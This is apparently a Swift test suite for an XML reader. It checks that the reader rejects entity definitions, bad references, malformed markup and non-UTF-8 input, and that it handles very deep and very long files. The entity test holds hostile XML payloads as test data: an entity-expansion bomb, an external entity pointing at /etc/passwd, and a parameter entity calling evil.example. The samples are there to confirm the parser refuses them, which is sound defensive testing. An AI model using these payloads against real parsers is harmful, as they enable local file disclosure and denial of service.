import Markup
import Testing

@Suite("The reader of XML")
struct XMLReaderTests {
    /// What is read, as `name=text` from the inside out, and what is wrong.
    private func read(_ bytes: [UInt8], isAlone: Bool = false) -> (elements: [String], fault: ScanFault?) {
        var elements: [String] = []
        do throws(ScanFault) {
            try XMLReader.read(bytes, isAlone: isAlone) { elements.append("\($0.name)=\($0.text.text)") }
            return (elements, nil)
        } catch {
            return (elements, error)
        }
    }

    private func fault(_ text: String, isAlone: Bool = false) -> String? {
        read(Array(text.utf8), isAlone: isAlone).fault?.message
    }

    @Test("hands over what is inside before what it is in, with its text and attributes")
    func elements() throws {
        var attributes: [String] = []
        try XMLReader.read(Array("<x:a b='1&amp;&#50;' c = \"d\n e\"> t&lt;<b/>&#x75;<![CDATA[<&]]> </x:a>".utf8)) {
            attributes += $0.attributes.map { "\($0.name)=\($0.value.text)" }
            #expect($0.name == "b" ? $0.parent == "a" : $0.prefix == "x" && $0.text.text == "t<u<&" && $0.offset == 0)
        }
        #expect(attributes == ["b=1&2", "c=d  e"])
    }

    @Test(
        "refuses what stands for more than it says",
        arguments: [
            "<!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>]><a>&b;</a>",
            "<!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><a>&a;</a>",
            "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://evil.example/'>%p;]><a/>",
            "<!DOCTYPE a [<!ENTITY unused ''>]><a/>",
        ])
    func entities(text: String) {
        #expect(fault(text)?.contains("it defines the entity") == true, "\(fault(text) ?? "")")
    }

    @Test(
        "refuses references to nothing, also where a document type may define them",
        arguments: [
            "<a>&nbsp;</a>", "<a b='&nbsp;'/>", "<!DOCTYPE a SYSTEM 'a.dtd'><a>&nbsp;</a>",
            "<!DOCTYPE a SYSTEM 'a.dtd'><a b='&amp;&nbsp;'/>", "<a>&#0;</a>", "<a>&#xD800;</a>", "<a>&#x110000;</a>",
            "<a> & </a>", "<a b='x&y'/>", "<a>&;</a>",
        ])
    func references(text: String) {
        #expect(fault(text) == "this '&' must be written '&amp;' in XML")
    }

    @Test(
        "refuses what is not well-formed, wherever the file ends",
        arguments: [
            "<", "<a", "<a ", "<a b", "<a b=", "<a b='", "<a b='1'", "<a>", "<a></", "<a><!", "<a><!--", "<a><![CDATA[",
            "<?xml", "<?", "<!DOCTYPE", "<!DOCTYPE a [", "<a>]]></a>", "<a b='1'c='2'/>", "< a/>", "<1/>", "<a></a >x",
            " <?xml version='1.0'?><a/>", "<a><?xml version='1.0'?></a>", "<a/><!DOCTYPE a>", "<![CDATA[x]]><a/>",
            "<a>\u{0}</a>", "\u{0}<a/>", "<a>\u{FFFF}</a>", "<a\u{0}/>",
        ])
    func broken(text: String) {
        #expect(fault(text) != nil)
    }

    @Test(
        "says where text stands outside", arguments: [("x<a/>", 0), ("<?xml version='1.0'?> x<a/>", 22), ("<a/> x", 5)])
    func outside(text: String, offset: Int) {
        let fault = read(Array(text.utf8)).fault
        #expect(fault?.offset == offset && fault?.message == "text stands outside of the outermost element")
    }

    @Test("takes nothing but UTF-8, whatever the first line says")
    func encodings() {
        let latin = Array("<?xml version='1.0' encoding='ISO-8859-1'?><a>".utf8) + [0xE9] + Array("</a>".utf8)
        #expect(read(latin).fault != nil)
        #expect(read(Array("<?xml version='1.0' encoding='UTF-16'?><a>é</a>".utf8)).elements == ["a=é"])
        #expect(read([0xFF, 0xFE] + Array("<a/>".utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }).fault != nil)
        #expect(read(Array("<a/>".utf8).flatMap { [$0, 0] }).fault?.offset == 1)
        for bytes: [UInt8] in [[0xC0, 0x80], [0xED, 0xA0, 0x80], [0xF5, 0x80, 0x80, 0x80], [0x80]] {
            #expect(read(Array("<a>".utf8) + bytes + Array("</a>".utf8)).fault != nil, "\(bytes)")
        }
    }

    @Test("reads a file as deep and as long as it likes, in whatever pieces")
    func large() {
        let depth = 100_000
        let deep = String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
        #expect(read(Array(deep.utf8)).elements.count == depth)
        let long = String(repeating: "é", count: 3 << 20)
        let (elements, fault) = read(Array("<a b='\(long)'>\(long)</a>".utf8))
        #expect(elements == ["a=\(long)"] && fault == nil)
        #expect(read(Array("<a>\(long)</b>".utf8)).fault?.offset == 3 + 2 * (3 << 20))
    }

    @Test("alone, takes no style sheet and no document type but the plain one")
    func alone() {
        #expect(fault("<?xml-stylesheet href='a.css'?><svg/>", isAlone: true)?.contains("style sheet") == true)
        #expect(fault("<?xml-stylesheet href='a.css'?><svg/>") == nil)
        #expect(fault("<!DOCTYPE svg><svg/>", isAlone: true) == nil)
        #expect(fault("<!DOCTYPE html><html/>", isAlone: true)?.contains("document type") == true)
    }
}
